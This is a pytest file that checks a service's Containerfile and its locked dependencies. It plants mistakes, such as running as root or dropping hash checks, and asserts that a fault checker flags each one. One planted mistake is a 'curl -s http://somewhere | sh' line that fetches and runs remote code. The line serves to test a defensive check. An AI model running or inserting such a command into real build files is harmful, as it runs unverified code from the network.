"""The Containerfile keeps its promises, and what it installs is the lock's own part for running."""

from __future__ import annotations

import re
import tomllib
from importlib.metadata import distribution

import pytest
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name

from serving.deploy.locked import locked_part
from tests.house.tree import ROOT
from tests.serving.deploy.checks import DEPLOY, containerfile_faults

TEXT = (DEPLOY / "Containerfile").read_text()
PROJECT = (ROOT / "pyproject.toml").read_text()
LOCK = (ROOT / "requirements.lock").read_text()


def test_image_is_what_is_promised() -> None:
    assert containerfile_faults(TEXT) == []


@pytest.mark.parametrize(
    ("what", "instead"),
    [
        ("USER 10001:10001\n", ""),
        ("USER 10001:10001", "USER root"),
        ("--require-hashes", ""),
        ("apt-get update", "curl -s http://somewhere | sh"),
        ("libgomp1", "libgomp1 gcc"),
        ("/livez", "/healthz"),
        ('"serve", ', ""),
        ("RXPLAIN_HOME", "RXPLAIN_HOUSE"),
        ("FROM python:3.12-slim\n#", "FROM registry/python:3.12-slim\n#"),
        ("COPY models", "ADD models"),
    ],
)
def test_planted_mistake_is_found(what: str, instead: str) -> None:
    assert what in TEXT
    assert containerfile_faults(TEXT.replace(what, instead)) != []


def test_every_file_it_copies_is_there_and_let_through() -> None:
    copied = re.findall(r"^COPY (?!--)(.+)$", TEXT, re.MULTILINE)
    sources = {source for line in copied for source in line.split()[:-1]}
    assert [source for source in sources if not (ROOT / source).exists()] == []
    let_through = (DEPLOY / "Containerfile.dockerignore").read_text()
    assert [one for one in sources if f"!{one.split('/')[0]}\n" not in let_through] == []


def _names(lock: str) -> set[str]:
    return {canonicalize_name(name) for name in re.findall(r"^([\w.-]+)==", lock, re.MULTILINE)}


def _wanted(names: list[str], seen: set[str]) -> set[str]:
    """What installed packages say that they need here, as a second way to the same set."""
    for text in names:
        asked = Requirement(text)
        name = canonicalize_name(asked.name)
        if name not in seen:
            seen.add(name)
            needs = distribution(name).requires or []
            applying = [
                need
                for need in needs
                if not (marker := Requirement(need).marker)
                or any(marker.evaluate({"extra": extra}) for extra in (*asked.extras, ""))
            ]
            _wanted(applying, seen)
    return seen


def test_running_takes_all_that_is_needed_and_no_test_package() -> None:
    part = _names(locked_part(PROJECT, LOCK))
    needed = _wanted(tomllib.loads(PROJECT)["project"]["dependencies"], set())
    assert len(needed & part) > 100
    assert needed & _names(LOCK) - part == set()
    assert part & {"pytest", "shap", "numba", "playwright", "ruff", "mypy", "uv", "hypothesis"} == set()
    assert _names(locked_part(PROJECT, LOCK, "build")) >= {"hatchling", "editables"}


def test_each_entry_of_a_part_stands_in_the_lock_as_it_is() -> None:
    part = locked_part(PROJECT, LOCK)
    assert part.count("--hash=sha256:") > 1000
    assert set(part.splitlines()) <= set(LOCK.splitlines())
